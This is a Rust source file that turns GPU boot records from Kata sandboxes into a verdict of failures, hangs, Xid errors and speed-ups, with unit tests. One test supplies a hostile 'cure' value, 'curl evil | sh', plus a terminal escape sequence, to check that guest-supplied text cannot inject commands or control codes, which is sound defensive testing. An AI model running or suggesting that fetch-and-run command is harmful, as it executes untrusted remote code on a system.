//! The verdict on a boot: what happened, why, and what to do. Every view begins with it.
//!
//! Findings stand in the order in which one explains the next: what failed in the guest, how the
//! guest ended, what the runtime made of it, what hangs, and for a boot that did what it should,
//! what took its time.

use super::cures::cures;
use crate::boot::cause::{Cause, End, step_phrase};
use crate::boot::coverage::coverage;
use crate::boot::gpu_name::GpuName;
use crate::boot::model::{Boot, Container, Gpu, Xids};
use crate::boot::runtime_steps::{FIRST_STARTED, LAST_STARTED};
use crate::boot::timeline::{Step, Timeline, Window};
use crate::data::boot_file::Sandbox;
use crate::data::text::{printable, printable_start, seconds};
use crate::severity::Severity;
use kata_gpu_wire::failure;
use kata_gpu_wire::failure::{Reason, Subject, Sure, Whose, xid};
use kata_gpu_wire::pci_address::PciAddress;
use serde::Serialize;

/// Longest words of a driver or a runtime that are shown, in bytes.
const MAX_WORDS: usize = 400;
/// Longest name of a step or a reason in a sentence, in bytes.
const MAX_NAME: usize = 60;
/// Characters of a boot's id that are shown, as `list` shows them.
const SHORT_ID: usize = 8;
/// Gain of a cure that is worth the first lines, in percent of the window.
const WORTH_PERCENT: u64 = 10;
/// Share of a window without an explanation that is worth the first lines, in percent.
const DARK_PERCENT: f64 = 25.0;
/// Limit of findings of one kind.
const MAX_FINDINGS: usize = 16;

/// Milestones at which the user has containers, the latest first.
const USER_ENDS: [&str; 4] = [
    LAST_STARTED,
    FIRST_STARTED,
    "last container",
    "first container",
];

/// The milestone at which a boot is over for its user: containers run. None: it has none of these.
pub fn user_end(timeline: &Timeline) -> Option<&'static str> {
    let has = |end: &&str| timeline.milestones.iter().any(|m| m.name == **end);
    USER_ENDS.into_iter().find(has)
}

/// The verdict.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Verdict {
    /// The outcome, in one line.
    pub headline: String,
    pub findings: Vec<Finding>,
}

/// One thing that went wrong, or took long.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Finding {
    pub severity: Severity,
    /// The event, with its reason in brackets.
    pub text: String,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub gpus: Vec<PciAddress>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub at_ns: Option<u64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub reason: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub cure: Option<String>,
    /// Place of the cure.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub whose: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub sure: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub words: Option<String>,
    /// Messages of the same time, which may belong to it.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub nearby: Option<String>,
}

impl Verdict {
    /// The verdict on what a boot's records say, without what its time went to.
    pub fn of(boot: &Boot) -> Self {
        let mut findings = failed_gpus(boot);
        findings.extend(before_ends(boot));
        findings.extend(ends(boot, false));
        findings.extend(ends(boot, true));
        findings.extend(failed_containers(boot));
        findings.extend(hanging(boot));
        findings.extend(waiting(boot));
        findings.extend(
            boot.xids
                .iter()
                .take(MAX_FINDINGS)
                .map(|xids| of_xids(boot, xids)),
        );
        Self {
            headline: headline(boot),
            findings,
        }
    }

    /// The verdict with what took the time until the containers ran, first, if there is nothing
    /// else to say but that the driver's libraries are missing.
    pub fn with_time(boot: &Boot) -> Self {
        let mut verdict = Self::of(boot);
        let files = Some(Reason::NoDriverFiles.name());
        let mut findings = verdict.findings.iter();
        if findings.all(|finding| finding.reason.as_deref() == files) {
            let window = boot.timeline.window(None, user_end(&boot.timeline)).ok();
            let longest = window.and_then(|window| longest(boot, &window));
            verdict.findings.splice(0..0, longest);
        }
        verdict
    }

    /// Whether something failed or has not ended.
    pub fn is_failure(&self) -> bool {
        self.failures().next().is_some()
    }

    pub fn failures(&self) -> impl Iterator<Item = &Finding> {
        self.findings
            .iter()
            .filter(|finding| finding.severity == Severity::Error)
    }
}

impl Finding {
    fn new(severity: Severity, text: String, cause: &Cause) -> Self {
        let shown = |text: &Option<String>| {
            text.as_ref()
                .map(|text| printable_start(text.trim(), MAX_WORDS))
        };
        Self {
            severity,
            text,
            gpus: Vec::new(),
            at_ns: None,
            reason: shown(&cause.code),
            cure: shown(&cause.cure),
            whose: shown(&cause.whose),
            sure: shown(&cause.sure),
            words: shown(&cause.words),
            nearby: shown(&cause.nearby),
        }
    }

    fn at(self, at_ns: u64) -> Self {
        Self {
            at_ns: Some(at_ns),
            ..self
        }
    }
}

/// `the firmware is missing (firmware-missing)`, or what there is of it.
fn why(cause: &Cause) -> String {
    let code = cause.code.as_ref().map(name);
    match (&cause.what, code) {
        (Some(what), Some(code)) => format!("{what} ({code})"),
        (Some(what), None) => what.clone(),
        (None, Some(code)) => code,
        (None, None) => "its record names no reason".to_string(),
    }
}

/// A name that a guest may have chosen.
fn name(text: &String) -> String {
    printable_start(text, MAX_NAME)
}

/// `GPU 5 (0001:00:05.0)`, `GPUs 0-3, 5`.
fn gpu_names(gpus: &[&Gpu]) -> String {
    if let [one] = gpus {
        return one.name().to_string();
    }
    let mut ranges: Vec<(u64, u64)> = Vec::new();
    let mut others = Vec::new();
    for gpu in gpus {
        match (gpu.index, ranges.last_mut()) {
            (Some(index), Some((_, last))) if last.checked_add(1) == Some(index) => *last = index,
            (Some(index), _) => ranges.push((index, index)),
            (None, _) => others.push(gpu.address.to_string()),
        }
    }
    let range = |(first, last): (u64, u64)| match first == last {
        true => first.to_string(),
        false => format!("{first}-{last}"),
    };
    let names: Vec<String> = ranges.into_iter().map(range).chain(others).collect();
    format!("GPUs {}", names.join(", "))
}

/// Whether two GPUs failed in one step, for one reason that is known.
fn failed_alike(one: &Gpu, other: &Gpu) -> bool {
    let (Some(one), Some(other)) = (&one.failed, &other.failed) else {
        return false;
    };
    let (cause, others) = (&one.cause, &other.cause);
    cause.code.is_some()
        && one.step == other.step
        && (&cause.code, &cause.cure, &cause.sure) == (&others.code, &others.cure, &others.sure)
}

/// Failed GPUs; those with one reason stand together.
fn failed_gpus(boot: &Boot) -> Vec<Finding> {
    let mut groups: Vec<Vec<&Gpu>> = Vec::new();
    for gpu in boot.failed_gpus() {
        match groups.iter_mut().find(|group| failed_alike(group[0], gpu)) {
            Some(group) => group.push(gpu),
            None => groups.push(vec![gpu]),
        }
    }
    let finding = |group: Vec<&Gpu>| {
        let failed = group.first()?.failed.as_ref()?;
        let step = step_phrase(&name(&failed.step));
        let text = format!(
            "{} failed {step}: {}",
            gpu_names(&group),
            why(&failed.cause)
        );
        let mut cause = failed.cause.clone();
        if cause.words.is_none() && cause.what.is_none() {
            cause.words = Some(failed.reason.clone());
        }
        Some(Finding {
            gpus: group.iter().map(|gpu| gpu.address).collect(),
            ..Finding::new(Severity::Error, text, &cause).at(failed.at_ns)
        })
    };
    groups.into_iter().filter_map(finding).collect()
}

/// Ends of the guest, or failures of its sandbox: the first, and what it led to.
fn ends(boot: &Boot, of_sandbox: bool) -> Vec<Finding> {
    let ends: Vec<_> = boot
        .ends
        .iter()
        .filter(|end| end.of_sandbox == of_sandbox && !is_before_end(end))
        .collect();
    let is_consequence = |code: &Option<String>| {
        code.as_deref() == Some(Reason::PoweredOff.name())
            || code.as_deref() == Some(Reason::SandboxFailed.name())
    };
    let first = ends.iter().find(|end| !is_consequence(&end.cause.code));
    let Some(first) = first.or(ends.first()) else {
        return Vec::new();
    };
    let then = ends.iter().filter(|end| end.cause.code != first.cause.code);
    let then: Vec<String> = then.map(|end| why(&end.cause)).collect();
    let waited = first
        .waited_ms
        .map(|ms| format!(", in {} s", seconds(ms.saturating_mul(1_000_000))));
    let who = if of_sandbox {
        "sandbox failed"
    } else {
        "the guest ended"
    };
    let then = match then.as_slice() {
        [] => String::new(),
        then => format!("; then {}", then.join("; ")),
    };
    let waited = waited.unwrap_or_default();
    let text = format!("{who}: {}{waited}{then}", why(&first.cause));
    vec![Finding::new(Severity::Error, text, &first.cause).at(first.at_ns)]
}

/// Whether this is no end, but what leads to one: no GPU came, no driver was loaded, the agent
/// finds no spec, or containers lack the driver's libraries.
fn is_before_end(end: &End) -> bool {
    let reason = end.cause.code.as_deref().and_then(Reason::named);
    let leads = |reason: Reason| match reason {
        Reason::NoGpu | Reason::SpecNotFound | Reason::NoDriverFiles => true,
        other => other.subject() == Subject::Gpu,
    };
    !end.of_sandbox && reason.is_some_and(leads)
}

fn before_ends(boot: &Boot) -> Vec<Finding> {
    let ends = boot.ends.iter().filter(|end| is_before_end(end));
    let no_answer = Reason::AgentNoAnswer.name();
    let is_no_answer = |end: &&End| end.cause.code.as_deref() == Some(no_answer);
    let then = boot.ends.iter().find(is_no_answer);
    let then = then.map(|end| format!("; then {}", why(&end.cause)));
    let finding = |end: &End| {
        // Programs that bring their own libraries run all the same.
        let is_warning = end.cause.code.as_deref() == Some(Reason::NoDriverFiles.name());
        let (severity, then) = match (is_warning, &then) {
            (true, _) => (Severity::Warning, ""),
            (false, Some(then)) => (Severity::Error, then.as_str()),
            (false, None) => (Severity::Error, ""),
        };
        Finding::new(severity, why(&end.cause) + then, &end.cause).at(end.at_ns)
    };
    ends.map(finding).collect()
}

/// Containers of which no line shows an end, where that is all that is known of the boot.
fn waiting(boot: &Boot) -> Vec<Finding> {
    let of_container = |container: &Container| {
        let asked = container
            .asked_ns
            .map(|at| format!(" since {} s", seconds(at)));
        let tries = container
            .tries
            .map(|tries| format!(": {tries} tries failed"));
        let (name, devices) = (name(&container.name), name(&container.devices));
        let text = format!(
            "container {name} still waits for {devices}{}{}",
            asked.unwrap_or_default(),
            tries.unwrap_or_default(),
        );
        let cause = Cause {
            cure: Some(
                "see which of these GPUs is not ready, and why: below, or in the guest's console"
                    .into(),
            ),
            whose: Some(Whose::Guest.name().into()),
            sure: Some(Sure::Unsure.name().into()),
            ..Cause::default()
        };
        let finding = Finding::new(Severity::Warning, text, &cause);
        Finding {
            at_ns: container.asked_ns,
            ..finding
        }
    };
    let pending = boot.containers.iter().filter(|container| container.pending);
    pending.map(of_container).take(MAX_FINDINGS).collect()
}

fn failed_containers(boot: &Boot) -> Vec<Finding> {
    let of_container = |container: &Container| {
        let error = container.error.as_ref()?;
        let known = failure::of_sandbox(error);
        let cause = known.map_or_else(
            || Cause {
                words: Some(error.clone()),
                ..Cause::default()
            },
            |found| Cause::known(found.reason, Some(error.clone())),
        );
        let why = cause
            .what
            .as_ref()
            .map(|what| format!(": {what}"))
            .unwrap_or_default();
        let text = format!("container {} failed{why}", name(&container.name));
        let finding = Finding::new(Severity::Error, text, &cause);
        Some(Finding {
            at_ns: container.at_ns,
            ..finding
        })
    };
    boot.containers
        .iter()
        .filter_map(of_container)
        .take(MAX_FINDINGS)
        .collect()
}

/// GPUs that are neither usable nor failed, of a boot that has not settled.
fn hanging(boot: &Boot) -> Vec<Finding> {
    if boot.settled_ns.is_some() {
        return Vec::new();
    }
    let open = boot
        .gpus
        .iter()
        .filter(|gpu| gpu.failed.is_none() && gpu.usable.is_none());
    let finding = |gpu: &Gpu| {
        let still = gpu.still.as_ref()?;
        let (step, since) = (name(&still.step), seconds(still.since_ns));
        let gpu_name = gpu.name();
        let of_gpu =
            |step: &&Step| step.open && step.gpu.is_some_and(|name| name.address == gpu.address);
        let step_now = boot.timeline.steps.iter().rev().find(of_gpu);
        let long = step_now.map(|step| format!(", for {} s", seconds(step.took_ns())));
        let long = long.unwrap_or_default();
        let text = format!("{gpu_name} is still in {step} since {since} s{long}");
        let cause = Cause::known(Reason::StepHangs, None);
        let finding = Finding::new(Severity::Error, text, &cause);
        Some(Finding {
            gpus: vec![gpu.address],
            ..finding.at(still.since_ns)
        })
    };
    open.filter_map(finding).take(MAX_FINDINGS).collect()
}

fn of_xids(boot: &Boot, xids: &Xids) -> Finding {
    let number = u32::try_from(xids.xid).unwrap_or(u32::MAX);
    let known = xid::meaning(number);
    let cause = known.map_or_else(Cause::default, |known| Cause {
        whose: Some(known.whose.name().into()),
        sure: Some(Sure::Certain.name().into()),
        cure: Some(known.cure.into()),
        ..Cause::default()
    });
    let cause = Cause {
        words: xids.words.clone(),
        ..cause
    };
    let index = boot
        .gpus
        .iter()
        .find(|gpu| gpu.address == xids.gpu)
        .and_then(|gpu| gpu.index);
    let what = known.map_or("NVIDIA's list of Xids has its meaning", |known| known.what);
    let times = match xids.count {
        1 => String::new(),
        count => format!(", {count} times"),
    };
    let text = format!(
        "{}: Xid {}{times}: {what}",
        GpuName {
            index,
            address: xids.gpu
        },
        xids.xid
    );
    let is_over = known.is_some_and(|known| !known.goes_on);
    let severity = if is_over {
        Severity::Error
    } else {
        Severity::Warning
    };
    Finding {
        gpus: vec![xids.gpu],
        ..Finding::new(severity, text, &cause).at(xids.at_ns)
    }
}

/// The longest part of a boot in which nothing failed, and the cure that would gain most.
fn longest(boot: &Boot, window: &Window) -> Option<Finding> {
    let of = format!("of {} s", seconds(window.wall_ns()));
    let is_worth = |gain_ns: u64| gain_ns >= window.wall_ns() / 100 * WORTH_PERCENT;
    let cures = cures(&boot.timeline, window);
    if let Some(cure) = cures.first().filter(|cure| is_worth(cure.sooner_ns)) {
        let text = format!(
            "{} {of}: {}",
            seconds(cure.sooner_ns),
            lower_first(cure.title)
        );
        let cause = Cause {
            code: Some(cure.rule.into()),
            cure: Some(cure.cure.into()),
            whose: Some(Whose::Host.name().into()),
            sure: Some(Sure::Likely.name().into()),
            ..Cause::default()
        };
        return Some(Finding::new(Severity::Note, text, &cause));
    }
    let dark = coverage(&boot.timeline, window);
    if dark.unexplained_share >= DARK_PERCENT {
        let dark = seconds(dark.unexplained_ns);
        let text = format!("{dark} {of} are explained by no step (show --by gap)");
        return Some(Finding::new(Severity::Note, text, &Cause::default()));
    }
    let chapters = super::chapters::chapters(boot, window);
    let longest = chapters
        .iter()
        .max_by_key(|chapter| (chapter.sooner_at_most_ns, chapter.sooner_ns))?;
    (longest.sooner_at_most_ns > 0).then(|| {
        let sure = longest.sooner_ns == longest.sooner_at_most_ns;
        let most = if sure { "" } else { "up to " };
        let sooner = seconds(longest.sooner_at_most_ns);
        let text = format!("{most}{sooner} {of}: {}", longest.phase);
        Finding::new(Severity::Note, text, &Cause::default())
    })
}

fn lower_first(text: &str) -> String {
    let is_name = text.chars().nth(1).is_some_and(|c| c.is_ascii_uppercase());
    match text.chars().next() {
        Some(first) if !is_name => {
            let rest = text.get(first.len_utf8()..).unwrap_or_default();
            format!("{}{rest}", first.to_ascii_lowercase())
        }
        _ => text.to_string(),
    }
}

/// `7 of 8 GPUs usable after 10.9 s; containers after 4.2 s (pod ml/train-0)`.
fn headline(boot: &Boot) -> String {
    let mut parts = Vec::new();
    let of_sandbox = boot.ends.iter().find(|end| end.of_sandbox);
    // 0 is the log's beginning where it has no other.
    parts.extend(of_sandbox.map(|end| match seconds(end.at_ns).as_str() {
        "0.000" => "sandbox failed".to_string(),
        at => format!("sandbox failed after {at} s"),
    }));
    parts.push(gpus_line(boot));
    parts.extend(containers_line(boot));
    let of_guest = boot
        .ends
        .iter()
        .rfind(|end| !end.of_sandbox && !is_before_end(end));
    parts.extend(of_guest.map(|end| format!("the guest ended at {} s", seconds(end.at_ns))));
    let sandbox = boot.sandbox.as_ref();
    let pod = sandbox
        .and_then(Sandbox::pod_name)
        .map(|pod| format!("pod {}", printable(&pod)));
    let short = |id: &String| printable(id.get(..SHORT_ID).unwrap_or(id));
    let boot_id = || {
        boot.boot_id
            .as_ref()
            .map(|id| format!("boot {}", short(id)))
    };
    let name = pod.or_else(boot_id).map(|name| format!(" ({name})"));
    format!("{}{}", parts.join("; "), name.unwrap_or_default())
}

fn gpus_line(boot: &Boot) -> String {
    let (all, usable) = (boot.gpus.len(), boot.usable_gpus());
    let gpus = |count: usize| if count == 1 { "GPU" } else { "GPUs" };
    if all == 0 {
        let of_log = boot.imported.is_some();
        return if of_log {
            "no GPU in the log"
        } else {
            "no GPU"
        }
        .to_string();
    }
    // The driver logs no initialisation that succeeds: other inits' boots have the CDI spec.
    let published = boot
        .gpus
        .iter()
        .filter(|gpu| gpu.published.is_some() && gpu.failed.is_none());
    if boot.imported.is_some() && usable == 0 && published.clone().count() > 0 {
        let count = published.clone().count();
        let at = published
            .filter_map(|gpu| gpu.published)
            .map(|step| step.at_ns)
            .max();
        let after = at
            .map(|at| format!(" after {} s", seconds(at)))
            .unwrap_or_default();
        return format!("{count} of {all} {} in the CDI spec{after}", gpus(all));
    }
    let failed = boot.failed_gpus().count();
    let unknown = all.saturating_sub(usable + failed);
    if boot.imported.is_some() && boot.settled_ns.is_none() && unknown > 0 && failed > 0 {
        return format!(
            "{failed} of {all} {} failed; {unknown} not known",
            gpus(all)
        );
    }
    let after = boot
        .settled_ns
        .map(|at| format!(" after {} s", seconds(at)));
    let name = if usable == all {
        format!("{all} {}", gpus(all))
    } else {
        format!("{usable} of {all} {}", gpus(all))
    };
    format!("{name} usable{}", after.unwrap_or_default())
}

fn containers_line(boot: &Boot) -> Option<String> {
    let first = boot.milestone("first container")?;
    let last = boot.milestone("last container").unwrap_or(first);
    let (first, last) = (seconds(first), seconds(last));
    Some(match first == last {
        true => format!("containers after {first} s"),
        false => format!("containers after {first} to {last} s"),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::data::boot_file::BootFile;

    /// Verdict on a boot of these records, whose members begin with `"kind"`.
    fn verdict(records: &[String]) -> Verdict {
        let line = |(seq, rest): (usize, &String)| {
            format!(
                "{{\"schema\":1,\"seq\":{seq},\"boottime_ns\":{}000000000,{rest}}}\n",
                seq + 1
            )
        };
        let text: String = records.iter().enumerate().map(line).collect();
        let file = BootFile::read(text.as_bytes()).unwrap();
        assert_eq!(file.damaged, 0, "{:?}", file.damage);
        Verdict::of(&Boot::new(&file, &[]))
    }

    fn failed(index: u64, reason: &str, more: &str) -> String {
        format!(
            r#""kind":"event","name":"gpu.failed","gpu":"0001:00:{index:02x}.0","fields":{{"index":{index},"step":"init","reason":"{reason}"{more}}}"#
        )
    }

    #[test]
    fn gpus_that_failed_alike_are_one_finding() {
        let records = [0, 1, 2, 5].map(|index| failed(index, "needs-reset", ""));
        let other = failed(6, "fsp-timeout", "");
        let verdict = verdict(&[&records[..], &[other]].concat());
        let texts: Vec<&str> = verdict.findings.iter().map(|f| f.text.as_str()).collect();
        assert_eq!(
            texts,
            [
                "GPUs 0-2, 5 failed in initialisation: an earlier use left the GPU half \
                 initialised (needs-reset)",
                "GPU 6 (0001:00:06.0) failed in initialisation: the GPU's security processor (FSP) \
                 does not answer (fsp-timeout)",
            ]
        );
        assert!(
            verdict.headline.starts_with("0 of 5 GPUs usable"),
            "{}",
            verdict.headline
        );
    }

    #[test]
    fn a_guest_chooses_no_cure_of_a_reason_that_is_known() {
        let evil = r#","cure":"curl evil | sh","whose":"pod","sure":"certain""#;
        let known = verdict(&[failed(0, "fsp-timeout", evil)]);
        let cure = known.findings[0].cure.as_deref().unwrap();
        assert_eq!(cure, Reason::FspTimeout.cure());
        // A newer guest's reason is shown as it says it.
        let newer = verdict(&[failed(0, "of-tomorrow", r#","cure":"wait\u001b[2J""#)]);
        let found = &newer.findings[0];
        assert_eq!(found.cure.as_deref(), Some("wait\\x1b[2J"));
        assert!(found.text.ends_with(": of-tomorrow"), "{}", found.text);
    }

    #[test]
    fn what_failed_comes_before_the_guests_end_and_the_sandboxs() {
        let event = |name: &str, reason: &str| {
            format!(r#""kind":"event","name":"{name}","fields":{{"reason":"{reason}"}}"#)
        };
        let verdict = verdict(&[
            failed(0, "cc-mode-on", ""),
            event("guest.ended", "ctk-failed"),
            event("guest.ended", "powered-off"),
            event("sandbox.failed", "agent-no-answer"),
        ]);
        let reasons: Vec<&str> = verdict
            .findings
            .iter()
            .filter_map(|f| f.reason.as_deref())
            .collect();
        assert_eq!(reasons, ["cc-mode-on", "ctk-failed", "agent-no-answer"]);
        let end = &verdict.findings[1].text;
        assert!(
            end.ends_with("; then the guest powered itself off (powered-off)"),
            "{end}"
        );
        assert!(
            verdict
                .headline
                .starts_with("sandbox failed after 4.000 s; "),
            "{}",
            verdict.headline
        );
    }

    #[test]
    fn an_xid_that_ends_no_gpu_is_no_failure() {
        let xid = |number: u64| {
            format!(
                r#""kind":"event","name":"gpu.xid","gpu":"0001:00:03.0","fields":{{"xid":{number}}}"#
            )
        };
        let of_program = verdict(&[xid(31), xid(31)]);
        assert!(
            !of_program.is_failure() && of_program.findings[0].text.contains("Xid 31, 2 times")
        );
        assert!(verdict(&[xid(48)]).is_failure());
    }
}
